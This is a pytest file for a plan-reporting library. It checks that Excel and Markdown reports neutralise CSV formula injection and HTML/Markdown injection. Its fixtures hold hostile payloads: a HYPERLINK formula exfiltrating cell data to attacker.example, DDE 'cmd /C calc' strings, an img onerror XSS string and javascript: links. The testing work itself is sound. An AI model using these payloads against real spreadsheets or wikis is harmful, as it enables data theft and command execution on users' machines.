"""Plan text is data in every report format: never a spreadsheet formula, never wiki markup.

Defects (hardening issue): plan text beginning with ``=``, ``+``, ``-`` or ``@`` (or a tab or a
carriage return, OWASP's CSV injection list) was written into report workbooks as a live formula
(``=HYPERLINK(...)``, ``=cmd|' /C calc'!A0``); and a partnership name holding
``<img src=x onerror=alert(1)>`` ran when the ``.md`` report was rendered in a wiki, because
Markdown output passed raw HTML and Markdown markup through.
"""

from __future__ import annotations

import datetime as dt
import io
import re
from typing import Any

import pytest
from openpyxl import load_workbook

import aspcore
from aspcore.io.cell_text import FORMULA_STARTS, csv_text, starts_like_formula
from aspcore.model import Plan
from aspcore.report import render
from aspcore.report.markdown import escape_markdown
from aspcore.report.model import Cell, Headline, ReportModel, Section, Table
from aspcore.report.xlsx import render_xlsx
from aspcore.rules.evaluation import Evaluation

#: Hostile plan text: each begins with a character a spreadsheet reads as a formula.
FORMULAS = {
    "A1": '=HYPERLINK("http://attacker.example/?d="&B2,"Click for details")',
    "A2": "=cmd|' /C calc'!A0",
    "A3": "+cmd|' /C calc'!A0",
    "A4": "-2+3+cmd|' /C calc'!A0",
}
OWNERS = {"A1": "@SUM(1+1)*cmd|' /C calc'!A0", "A2": "\t=1+1", "A3": "\r=1+1"}
PARTNERSHIP = '<img src=x onerror=alert(1)> =HYPERLINK("http://attacker.example")'


def plan_with(
    statements: dict[str, str], owners: dict[str, str], partnership: str = "Testshire"
) -> Plan:
    """A small plan whose actions have these statements and owners (by action id)."""
    ids = sorted(statements.keys() | owners.keys())
    return aspcore.plan_from_mapping(
        {
            "partnership": partnership,
            "year": "2018-19",
            "objectives": [
                {
                    "id": "O1",
                    "statement": "Identify victims",
                    "pillar": "pursue",
                    "owner": "Police lead",
                    "timescale": "2018-19",
                    "indicators": ["I1"],
                }
            ],
            "actions": [
                {
                    "id": action,
                    "objective": "O1",
                    "statement": statements.get(action, "Joint operations"),
                    "owner": owners.get(action, "Police lead"),
                    "due": "2018-10-31",
                    "status": "in-progress",
                }
                for action in ids
            ],
            "indicators": [
                {
                    "id": "I1",
                    "name": "Victims identified",
                    "level": "output",
                    "unit": "count",
                    "target": {"value": 10, "period": "2018-19"},
                    "owner": "Police analyst",
                    "source": "Debriefs",
                }
            ],
            "observations": [
                {"indicator": "I1", "period": "2018-19 Q1", "value": 3},
                {"indicator": "I1", "period": "2018-19 Q2", "value": 7},
            ],
        }
    )


def evaluated(plan: Plan) -> tuple[Plan, Evaluation]:
    return plan, aspcore.evaluate(plan, as_of=dt.date(2018, 11, 30))


@pytest.fixture
def hostile() -> tuple[Plan, Evaluation]:
    """A plan with hostile statements, owners and partnership name, evaluated."""
    return evaluated(plan_with(FORMULAS, OWNERS, PARTNERSHIP))


def _cells(data: bytes) -> list[Any]:
    book = load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def test_workbook_cells_starting_like_formulas_are_text(hostile: tuple[Plan, Evaluation]) -> None:
    plan, evaluation = hostile
    data = render(evaluation, plan, "xlsx")
    assert isinstance(data, bytes)
    cells = _cells(data)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    by_value = {c.value: c for c in cells if isinstance(c.value, str)}
    for text in [*FORMULAS.values(), *OWNERS.values(), PARTNERSHIP]:
        cell = by_value.get(text.strip())  # the plan loader trims the tab and return
        assert cell is not None, f"{text!r} not written unchanged"
        assert cell.data_type == "s"
        # and stays text when someone edits it in Excel
        assert cell.quotePrefix == starts_like_formula(text.strip())


def test_workbook_text_from_any_composer_is_text() -> None:
    """Text the plan loader would trim (a leading tab or return) reaches the workbook as text."""
    texts = ["\t=1+1", "\r=1+1", "#N/A", "@A1", "-A1"]
    table = Table("Findings", ("Finding", "Count"), [(Cell(t), Cell("3", value=3)) for t in texts])
    report = ReportModel(
        kind="board",
        title="=Report",
        partnership="-Partnership",
        year=None,
        as_of=dt.date(2018, 11, 30),
        ruleset_name="+rules",
        ruleset_version="1",
        aspcore_version="0",
        published=True,
        min_count=5,
        headline=Headline(None, False, "=reason", [("=label", "=value")]),
        sections=[Section("findings", "Findings", [table])],
    )
    cells = _cells(render_xlsx(report))
    assert not [c.coordinate for c in cells if c.data_type in {"f", "e"}]
    written = {c.value: c for c in cells if isinstance(c.value, str)}
    for text in [*texts, "=Report", "-Partnership", "+rules", "=label", "=value"]:
        cell = written[text.replace("\r", "\n")]  # XML reads a carriage return as a newline
        assert cell.data_type == "s", text
        assert cell.quotePrefix == (text != "#N/A"), text
    assert [c.value for c in cells if c.data_type == "n"] == [3] * len(texts)


def test_workbook_numbers_stay_numbers(hostile: tuple[Plan, Evaluation]) -> None:
    plan, evaluation = hostile
    data = render(evaluation, plan, "xlsx")
    assert isinstance(data, bytes)
    numbers = [c for c in _cells(data) if isinstance(c.value, int | float)]
    assert numbers and all(c.data_type == "n" for c in numbers)


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_csv_text_prefixes_a_quote_to_formula_starts(start: str) -> None:
    assert starts_like_formula(f"{start}cmd")
    assert csv_text(f"{start}cmd|' /C calc'!A0") == f"'{start}cmd|' /C calc'!A0"


@pytest.mark.parametrize("value", [-3, 2.5, "-3", "+44", "-0.25", "1e3", "recovery", "", None])
def test_csv_text_leaves_numbers_and_plain_text_alone(value: object) -> None:
    assert csv_text(value) == ("" if value is None else value)


def test_markdown_escapes_html_in_data(hostile: tuple[Plan, Evaluation]) -> None:
    plan, evaluation = hostile
    text = str(render(evaluation, plan, "markdown"))
    assert "<img" not in text and "&lt;img src=x onerror=alert(1)&gt;" in text
    assert "<" not in re.sub(r"<!--.*?-->", "", text)


@pytest.mark.parametrize(
    ("data", "escaped"),
    [
        ("<b>bold</b> & co", "&lt;b&gt;bold&lt;/b&gt; &amp; co"),
        ("a | b", r"a \| b"),
        ("`code`", r"\`code\`"),
        ("*strong* _em_", r"\*strong\* \_em\_"),
        ("[click](javascript:alert(1))", r"\[click\](javascript:alert(1))"),
        ("![x](http://attacker.example/t.png)", r"!\[x\](http://attacker.example/t.png)"),
        ("# Heading", r"\# Heading"),
        ("line one\nline two\r\nthree", "line one line two three"),
        ("back\\slash", "back\\\\slash"),
        ("plain text 2018-19", "plain text 2018-19"),
    ],
)
def test_escape_markdown(data: str, escaped: str) -> None:
    assert escape_markdown(data) == escaped


def test_markdown_data_cannot_break_a_table_or_start_a_block() -> None:
    statement = "# Pwned | injected cell\n- [x](javascript:alert(1))"
    plan, evaluation = evaluated(plan_with({"A1": statement}, {"A1": "# Owner"}))
    text = str(render(evaluation, plan, "markdown"))
    assert "](javascript:" not in text.replace(r"\](javascript:", "")
    assert not [line for line in text.splitlines() if re.match(r"#+ (Pwned|Owner)", line)]
    rows = [line for line in text.splitlines() if "Pwned" in line and line.startswith("|")]
    assert rows
    for row in rows:
        assert r"\# Pwned \| injected cell - \[x\](javascript:alert(1))" in row
